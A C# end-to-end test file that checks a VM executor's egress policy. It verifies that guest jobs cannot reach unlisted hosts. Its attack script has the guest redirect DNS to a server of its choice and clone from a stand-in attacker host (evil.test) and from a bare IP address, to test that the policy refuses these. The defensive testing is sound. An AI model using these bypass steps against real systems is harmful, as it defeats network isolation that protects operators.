using System.Text.Json;
using FluentAssertions;
using VmExecutor.EndToEnd.Tests.Attacks;
using VmExecutor.EndToEnd.Tests.Benches;
using VmExecutor.EndToEnd.Tests.Images;
using VmExecutor.EndToEnd.Tests.Instruments;
using VmExecutor.RunnerSimulator;
using VmExecutor.RunnerSimulator.Jobs;
using VmExecutor.RunnerSimulator.Stages;
using Xunit;

namespace VmExecutor.EndToEnd.Tests.Cases;

/// <summary>
/// Real guests under an egress policy, in a network namespace of their own. Another namespace is the rest of the world: a name server and git's daemon at two addresses, one
/// with an allowed name and one with another.
/// </summary>
[AlwaysCold("its libvirt is its own")]
public sealed class EgressTests(TestMachine machine) : IsolatedTest(machine, "nft", "dnsmasq", "git", "prlimit")
{
    private const string Policy = "egress: {allow: .example.test}";

    /// <summary>The guest asks a server of its own choice.</summary>
    private static readonly string[] Attack =
    [
        "echo nameserver 192.0.2.3 | sudo tee /run/resolv.conf",
        "! git clone -q git://git.example.test/project /tmp/allowed || echo cloned-allowed-$((1+1))",
        "! git clone -q git://evil.test/project /tmp/evil || echo cloned-evil-$((1+1))",
        "! timeout 60 git clone -q git://192.0.2.3/project /tmp/number || echo cloned-by-number-$((1+1))",

        // A connection that is not refused is tried for two minutes.
        "timeout 60 git ls-remote -q git://192.0.2.3/project > /dev/null || [ $? != 124 ] && echo answered-$((1+1))",
    ];

    private static readonly string[] Others = ["cloned-evil-2", "cloned-by-number-2"];

    [Fact(Timeout = HangLimit)]
    public async Task A_job_is_refused_what_its_policy_does_not_allow_is_told_so_and_can_only_narrow_it()
    {
        await using var world = await EgressWorld.StartAsync(Libvirt, Bench.MakeDirectory("world"));
        Bench.With();
        Bench.CloseHost();
        var free = await Bench.RunJobAsync(new SimulatedJob { Id = 1702, Image = "small", Script = Attack });
        Bench.With(new ImageYaml { Further = [Policy] });

        var result = await Bench.RunJobAsync(new SimulatedJob { Id = 1701, Image = "small", Script = Attack, AfterScript = ["git ls-remote git://evil.test/project || true"] });
        var left = await Libvirt.OutputAsync("nft", "list", "tables");
        var (exit, listed, error) = await Bench.CommandAsync("egress", "--image", "small", "--json");
        var more = await Bench.RunJobAsync(new SimulatedJob { Id = 1703, Image = "small", Variables = [new("VM_EGRESS", "git.example.test evil.test")] });

        var scorecard = new Scorecard();
        scorecard.Note("egress-by-guest", held: !Others.Any(result.TraceText.Contains), control: Others.All(free.TraceText.Contains), $"{result}\n{free}");
        scorecard.Note("egress-widened", held: more.State == JobState.Failed, control: Others.All(free.TraceText.Contains), $"{more}\n{free}");
        scorecard.ShouldBeGreen();
        free.TraceText.Should().Contain("cloned-allowed-2");
        more.FailureReason.Should().Be(FailureReason.ScriptFailure, "it is not tried again");
        more.TraceText.Should().Contain("ERROR VMX1803").And.Contain("asks by VM_EGRESS for evil.test");
        result.State.Should().Be(JobState.Success, result.ToString());
        result.TraceText.Should().Contain("cloned-allowed-2").And.Contain("answered-2", "it is refused at once");
        result.Last(Stage.Run, SubStages.BuildScript).ErrorText.Should().Contain("WARNING: egress policy 'small' refused evil.test\n").And.Contain("WARNING: egress policy 'small' refused 192.0.2.3:9418\n");
        result.Last(Stage.Run, SubStages.AfterScript).ErrorText.Should().NotContain("refused evil.test", "it was told");
        left.Should().NotContain("egress");
        Directory.GetFiles("/run/vm-executor/egress", "*.conf").Should().NotContain(file => File.ReadAllText(file).Contains("example.test", StringComparison.Ordinal));
        exit.Should().Be(0, error);
        var policy = JsonDocument.Parse(listed).RootElement.GetProperty("policies").EnumerateArray().Should().ContainSingle().Subject;
        policy.GetProperty("allowed").EnumerateObject().Select(name => name.Name).Should().Equal("git.example.test");
        policy.GetProperty("refused").EnumerateObject().Select(name => name.Name).Should().Contain(["evil.test", "192.0.2.3:9418"]);
        (await Bench.Leftovers.FindAsync()).Should().BeEmpty();
    }
}
